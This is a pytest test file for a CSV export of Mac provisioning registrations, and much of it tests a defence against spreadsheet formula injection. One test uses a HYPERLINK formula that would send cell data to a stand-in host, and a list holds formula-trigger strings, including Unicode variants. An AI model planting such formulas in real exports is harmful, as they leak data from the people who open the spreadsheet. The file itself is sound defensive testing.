"""The CSV file of all registrations, on both databases, read back as a spreadsheet would."""

import csv
import io
import tracemalloc
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import insert, update

from infrastructure.database.engine import Database
from provisioning.munki import Destination
from provisioning.registrations.listings.export import BOM, HEADER, PAGE, csv_of, harmless
from provisioning.registrations.models import Registration
from provisioning.values.serials import Serial
from tests.support import acting
from tests.support.acting import did, register
from tests.support.fixtures.doors import NOON
from tests.support.soaking import soak_only
from tests.support.tables import for_each

LONDON, PARIS = Destination("london", "design"), Destination("paris", "basic")


def read_back(database: Database, **which: object) -> list[dict[str, str]]:
    written = b"".join(csv_of(database, **which))  # type: ignore[arg-type]
    assert written.startswith(BOM)
    return [*csv.DictReader(io.StringIO(written.decode("utf-8-sig"), newline=""), strict=True)]


def test_every_registration_is_a_row_with_all_that_is_known(database: Database) -> None:
    register(database, "C02AAA", note='3rd floor, "lab"\nby the window', at=NOON)
    with database.begin() as session:
        acting.cancel(
            session,
            Serial.parse("C02AAA"),
            act=did(session, "cancelled", by="U0BOB", at=NOON + timedelta(hours=1)),
        )
    register(database, "c02aaa", to=PARIS, at=NOON + timedelta(days=1))

    assert read_back(database) == [
        {
            "serial": "C02AAA",
            "site": "london",
            "build": "design",
            "state": "cancelled",
            "registered by": "U0ALICE",
            "note": '3rd floor, "lab"\nby the window',
            "registered at": "2026-03-02T12:00:00Z",
            "confirmed at": "",
            "closed at": "2026-03-02T13:00:00Z",
            "name": "",
        },
        {
            "serial": "C02AAA",
            "site": "paris",
            "build": "basic",
            "state": "waiting",
            "registered by": "U0ALICE",
            "note": "",
            "registered at": "2026-03-03T12:00:00Z",
            "confirmed at": "",
            "closed at": "",
            "name": "",
        },
    ]


@pytest.mark.postgresql
def test_a_state_of_tomorrow_and_a_mac_of_nobody_are_exported(database: Database) -> None:
    add(database, 1, state="imaging", registered_by=None, reported_as="c02Aaa", confirmed_at=NOON)

    [row] = read_back(database)

    assert (row["serial"], row["state"], row["registered by"]) == ("c02Aaa", "imaging", "")
    assert row["confirmed at"] == "2026-03-02T12:00:00Z"


def test_a_name_is_that_of_the_macs_present_destination(database: Database) -> None:
    add(database, 1, computer_name="desk-17", state="cancelled", closed_at=NOON)
    add(database, 1, computer_name="paris-1", named_for=PARIS.key)

    assert [row["name"] for row in read_back(database)] == ["desk-17", ""]


@pytest.mark.postgresql
def test_one_site_can_be_asked_for(database: Database) -> None:
    register(database, "C02AAA", at=NOON)
    register(database, "C02BBB", to=PARIS, at=NOON)

    assert [row["serial"] for row in read_back(database, site="paris")] == ["C02BBB"]
    assert read_back(database, site="rome") == []


def test_lines_end_as_the_standard_says(database: Database) -> None:
    assert b"".join(csv_of(database)) == BOM + ",".join(HEADER).encode() + b"\r\n"


def test_a_note_that_is_a_formula_is_exported_as_text(database: Database) -> None:
    register(database, "C02AAA", note='=HYPERLINK("https://example.com?"&A1,"Click")', at=NOON)

    assert read_back(database)[0]["note"].startswith("'=HYPERLINK(")


@for_each(
    "cell",
    [
        *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\rx", "\nx", "  =1", "\u00a0@x", "\ufeff=1"),
        *("＝1", "\x00=1", '"=1', "\u200b-1", "\u3000+1"),
    ],
)
def test_what_a_spreadsheet_would_run_begins_with_an_apostrophe(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"


def test_a_formula_behind_a_semicolon_is_no_cell_of_its_own() -> None:
    """Where decimals are written with a comma, spreadsheets take semicolons for separators."""
    assert harmless("a;=1+1;b") == "a;'=1+1;b"


@for_each("cell", ["", "C02AAA", "a=b", "3-4", "me@example.com", "a; b", "it's", "é"])
def test_what_is_harmless_stays_as_it_is(cell: str) -> None:
    assert harmless(cell) == cell


@given(st.text(max_size=20) | st.text("=+-@;\t\r\n '\"a", max_size=8))
def test_no_cell_begins_a_formula_and_nothing_else_is_lost(cell: str) -> None:
    written = harmless(cell)

    assert all(piece.strip()[:1] not in {*"=+-@"} - {""} for piece in written.split(";") if piece)
    assert written.replace("'", "") == cell.replace("'", "")


def add(database: Database, number: int, **different: object) -> None:
    row = {
        "site": "london",
        "build": "design",
        "state": "waiting",
        "registered_by": "U0ALICE",
        "channel": "C0IMAGING",
        "revision": 1,
        "created_at": NOON,
        "changed_at": NOON,
        **different,
    }
    rows = [{**row, "serial": f"C02{serial:09}"} for serial in range(number)]
    with database.begin() as session:
        session.execute(insert(Registration), rows)


@pytest.mark.postgresql(soak=True)
def test_more_than_a_page_comes_once_and_in_order(database: Database) -> None:
    add(database, 2 * PAGE + 1)

    rows = read_back(database)

    assert [row["serial"] for row in rows] == [f"C02{n:09}" for n in range(2 * PAGE + 1)]


@soak_only("follows all memory of some thousand rows")
def test_no_more_than_a_page_is_held_at_a_time(database: Database) -> None:
    add(database, 4 * PAGE)
    list(csv_of(database, site="warm up"))
    tracemalloc.start()
    for _ in csv_of(database):
        pass
    four_pages = tracemalloc.get_traced_memory()[1]
    tracemalloc.reset_peak()
    pieces = csv_of(database)
    next(pieces), next(pieces)
    one_page = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()

    assert four_pages < 2 * one_page


@pytest.mark.postgresql(soak=True)
def test_each_piece_may_be_asked_for_by_another_thread_while_nothing_is_open(
    database: Database,
) -> None:
    add(database, 2 * PAGE + 1)
    pieces, written = csv_of(database), []

    while True:
        with ThreadPoolExecutor(1) as another:
            piece = another.submit(next, pieces, b"").result()
        if not piece:
            break
        written.append(piece)
        with database.begin() as session:  # nobody who writes waits for the reader
            session.execute(update(Registration).values(site=f"after {len(written)}"))

    assert [piece.count(b"after ") for piece in written] == [0, PAGE, PAGE, 1]
    assert b"after 3" in written[-1]
